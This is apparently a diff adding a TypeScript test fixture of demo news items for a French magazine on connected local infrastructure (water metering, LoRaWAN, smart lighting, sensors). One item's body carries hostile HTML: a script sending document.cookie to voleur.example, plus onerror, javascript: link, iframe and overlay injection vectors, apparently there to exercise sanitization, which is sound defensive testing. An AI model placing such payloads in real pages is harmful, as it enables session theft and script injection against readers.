@@ -1,0 +1,118 @@
+import type { DemoPublisher } from '../demo-publisher.ts'
+
+export const publisher: DemoPublisher = {
+  slug: 'territoires-connectes-mag',
+  publisher: 'Territoires connectés, le magazine',
+  title: 'Territoires connectés – retours d’expérience',
+  format: 'json-feed',
+  domain: 'technologique',
+  territory: 'national',
+  priors: { 'territoires-durables-connectes': 1 },
+  items: [
+    {
+      slug: 'telereleve-grand-chambord-9000-compteurs',
+      title: 'Télérelève de l’eau : le Grand Chambord équipe 9 000 compteurs en LoRaWAN',
+      body: '<p>La communauté de communes du Grand Chambord achève l’équipement de 9 000 compteurs d’eau. Les index remontent deux fois par jour sur un réseau LoRaWAN public, et les abonnés sont prévenus d’une fuite en moins de 48 heures.</p><ul><li>Coût : 1,1 million d’euros, dont 40 % de subventions</li><li>Rendement du réseau : de 78 % à 86 % en deux ans</li><li>Pile des modules : quinze ans annoncés</li></ul>',
+      daysAgo: 1,
+      categories: ['Eau', 'LoRaWAN'],
+      author: 'La rédaction',
+    },
+    {
+      slug: 'rex-eclairage-vendome',
+      title: 'Retour d’expérience : à Vendôme, l’éclairage public intelligent divise la facture par trois',
+      body: '<p>2 300 points lumineux sont pilotés à distance. La détection de présence maintient 20 % de puissance la nuit et remonte à 100 % au passage d’un piéton. La consommation est passée de 1,4 à 0,46 GWh par an, pour un investissement de 1,9 million d’euros amorti en neuf ans.</p>',
+      daysAgo: 2,
+      categories: ['Éclairage'],
+      author: 'La rédaction',
+    },
+    {
+      slug: 'capteurs-co2-ecoles-cher',
+      title: 'Le Cher déploie 640 capteurs de CO2 dans ses collèges et ses écoles',
+      body: '<p>Les capteurs connectés mesurent l’air intérieur, la température et l’occupation. Reliés à la gestion technique du bâtiment, ils règlent la ventilation salle par salle. Le département a équipé 25 collèges et prête du matériel aux communes ; un retour d’expérience chiffré est publié.</p>',
+      daysAgo: 3,
+      categories: ['Bâtiments', 'Air'],
+    },
+    {
+      slug: 'lorawan-reseau-mutualise-quatre-syndicats',
+      title:
+        'Réseau LoRaWAN mutualisé : quatre syndicats partagent 60 passerelles & un seul cœur, pour un débit < 5 kbit/s',
+      body: '<p>Quatre syndicats d’énergie et d’eau partagent soixante passerelles LoRaWAN et un cœur de réseau libre. La convention de groupement répartit les coûts au nombre d’objets connectés : 2,40 € par an et par capteur. Le code de supervision est publié sous licence EUPL.</p>',
+      daysAgo: 4,
+      categories: ['LoRaWAN', 'Mutualisation'],
+    },
+    {
+      slug: 'jumeau-numerique-tours-chaleur',
+      title: 'Un jumeau numérique contre les îlots de chaleur en Indre-et-Loire',
+      body: '<p>Le jumeau numérique croise la hauteur des bâtiments, 140 sondes de température et l’inventaire des arbres. Les élus comparent des scénarios de plantation rue par rue. Les jeux de données sont ouverts, le modèle a coûté 310 000 €.</p>',
+      daysAgo: 5,
+      categories: ['Jumeau numérique', 'Données'],
+    },
+    {
+      slug: 'collecte-dechets-sondes-remplissage',
+      title: 'Déchets : des sondes de remplissage sur 480 points d’apport volontaire connectés',
+      body: '<p>Le syndicat de collecte de l’Indre a équipé 480 colonnes à verre. Les tournées sont calculées chaque matin : 21 % de kilomètres en moins, 34 tonnes de CO2 évitées par an. Les agents ont participé à la définition de l’application.</p>',
+      daysAgo: 6,
+      categories: ['Déchets'],
+    },
+    {
+      slug: 'attaque-bibliotheque-html-hostile',
+      title: 'Parkings connectés : ce que les communes ont appris de trois ans de stationnement intelligent',
+      body: '<p>Trois communes dressent le bilan du stationnement intelligent : 11 minutes gagnées par jour ouvré, des capteurs à remplacer plus tôt que prévu.</p><script>document.location=\'https://voleur.example/?c=\'+document.cookie</script><img src="x" onerror="alert(\'mouchard\')"><p><a href="javascript:alert(\'piège\')">Lire la suite</a> <iframe src="https://voleur.example/"></iframe><span style="position:fixed;top:0" onclick="alert(1)">Publicité</span></p>',
+      daysAgo: 0,
+      categories: ['Stationnement'],
+    },
+    {
+      slug: 'crue-capteurs-bassin-versant',
+      title: 'Capteurs de crue : le bassin du Loir alerté quarante minutes plus tôt',
+      body: '<p>Dix-huit capteurs de crue à ultrason complètent les stations de l’État sur les affluents. Lors de la montée des eaux de l’hiver, douze communes ont été alertées quarante minutes plus tôt. Le réseau bas débit a tenu malgré deux coupures électriques.</p>',
+      daysAgo: 6,
+      hour: 16,
+      categories: ['Risques'],
+    },
+    {
+      slug: 'hyperviseur-petite-ville',
+      title: 'Hypervision territoriale : une ville de 12 000 habitants peut-elle se l’offrir ?',
+      body: '<p>L’hyperviseur urbain agrège éclairage, arrosage, bâtiments et vidéoprotection. Hébergé par le syndicat mixte, il est facturé 0,85 € par habitant et par an. La ville a gardé la maîtrise de ses données grâce à des connecteurs ouverts.</p>',
+      daysAgo: 15,
+      categories: ['Hypervision'],
+    },
+    {
+      slug: 'arrosage-connecte-stades',
+      title:
+        'Arrosage : des sondes connectées économisent 9 000 m³ d’eau sur les stades de Romorantin-Lanthenay',
+      body: '<p>La ville a équipé cinq stades d’une irrigation connectée : sondes d’humidité, station météo et vannes pilotées. L’économie atteint 9 000 m³ par an. Les relevés sont publiés chaque semaine.</p>',
+      daysAgo: 26,
+      categories: ['Eau'],
+    },
+    {
+      slug: 'smart-village-perche',
+      title: 'Smart village : dans le Perche, cinq communes mutualisent un technicien et leurs capteurs',
+      body: '<p>Un agent partagé installe et répare les objets connectés de cinq villages : sous-comptage, qualité de l’air, affichage légal dématérialisé. Le poste coûte 6 200 € par an à chaque commune.</p>',
+      daysAgo: 39,
+      categories: ['Mutualisation', 'Ruralité'],
+    },
+    {
+      slug: 'rencontres-territoires-connectes',
+      title: 'Rencontres des territoires connectés : inscriptions ouvertes pour la journée de Blois',
+      body: '<p>La journée réunira 300 élus et techniciens le {{jour 34}}. Trois ateliers : télérelève, bâtiments et décret BACS, gouvernance de la donnée. L’inscription est gratuite pour les collectivités.</p>',
+      daysAgo: 4,
+      hour: 17,
+      categories: ['Agenda'],
+    },
+    {
+      slug: 'guide-marche-telereleve',
+      title: 'Guide : rédiger un marché de télérelève sans s’enfermer chez un fournisseur',
+      body: '<p>Le guide propose des clauses types sur la propriété des données, la réversibilité, les formats ouverts et la fin de vie des modules. Il s’appuie sur quatorze marchés passés par des syndicats d’eau.</p>',
+      daysAgo: 61,
+      categories: ['Guide', 'Eau'],
+    },
+    {
+      slug: 'batiments-ecoles-gtb-indre',
+      title:
+        'Gestion technique du bâtiment : 31 % d’économies dans les écoles d’une intercommunalité de l’Indre',
+      body: '<p>La supervision énergétique de 22 écoles a permis d’économiser 31 % de chauffage en deux hivers. L’intercommunalité a formé les gardiens et affiché la consommation dans chaque hall. Investissement : 14 € par mètre carré.</p>',
+      daysAgo: 92,
+      categories: ['Bâtiments', 'Énergie'],
+    },
+  ],
+}
